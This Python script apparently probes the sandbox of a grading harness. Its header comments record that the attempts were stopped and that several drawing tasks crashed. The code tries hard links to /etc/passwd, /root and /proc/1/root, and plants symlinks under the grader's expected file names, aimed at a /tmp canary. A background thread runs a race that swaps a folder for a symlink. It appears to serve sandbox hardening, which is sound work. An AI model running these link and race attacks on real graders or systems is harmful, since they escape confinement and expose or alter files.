# hopes: that whoever reads or cleans up the scratch folder follows links out of it
# stopped by: files are fetched by the confined worker itself; cleaning up follows no link; hard links need a right
# costs: drawing.dark_on_white crashed
# costs: drawing.light_on_black crashed
# costs: drawing.cubic crashed
# costs: drawing.other_sizes crashed
# costs: drawing.colour crashed

import ctypes
import os
import threading

_TARGETS = ["/etc/passwd", "/tmp/digitlab-canary", "/tmp", "/", "/root", "/proc/1/root"]
_AT_EMPTY_PATH, _AT_SYMLINK_FOLLOW = 0x1000, 0x400
_libc = ctypes.CDLL(None, use_errno=True)


def _link_by_descriptor(target, name):
    number = os.open(target, os.O_PATH)
    if _libc.linkat(number, b"", -100, name.encode(), _AT_EMPTY_PATH) < 0:
        raise OSError(ctypes.get_errno(), target)


def _link_by_proc(target, name):
    path = f"/proc/self/fd/{os.open(target, os.O_PATH)}"
    if _libc.linkat(-100, path.encode(), -100, name.encode(), _AT_SYMLINK_FOLLOW) < 0:
        raise OSError(ctypes.get_errno(), target)


for _number, _target in enumerate(_TARGETS):
    for _make in (os.link, _link_by_descriptor, _link_by_proc):
        try:
            _make(_target, f"hard{_number}")
        except OSError:
            continue
        it_worked(f"a hard link to {_target}")
    os.symlink(_target, f"soft{_number}")
    for _act in (
        open,
        os.listdir,
        lambda path: open(path + "/digitlab-canary", "a"),
        lambda path: os.mkdir(path + "/digitlab-attack"),
    ):
        try:
            _act(f"soft{_number}")
        except OSError:
            continue
        it_worked(f"{_target} through a link")

# What the grader will write, read or remove by name.
for _name in ("restored.keras", "examined.keras", "drawing.png", "picture.png", "images.gz", "labels.gz", "missing"):
    os.symlink("/tmp/digitlab-canary", _name)
os.makedirs("deep/folder")
os.symlink("/tmp", "deep/folder/digitlab-canary")
os.symlink("../..", "deep/folder/up")
os.rename(__file__, "moved.py")
os.symlink("/tmp/digitlab-canary", __file__)


def _swap_for_ever():
    """Be a folder for who looks, and a link for who goes in."""
    while True:
        try:
            os.mkdir("swap")
            open("swap/digitlab-canary", "w").close()
            os.rename("swap", "away")
            os.symlink("/tmp", "swap")
            os.unlink("swap")
            os.unlink("away/digitlab-canary")
            os.rmdir("away")
        except OSError:
            return


threading.Thread(target=_swap_for_ever, daemon=True).start()
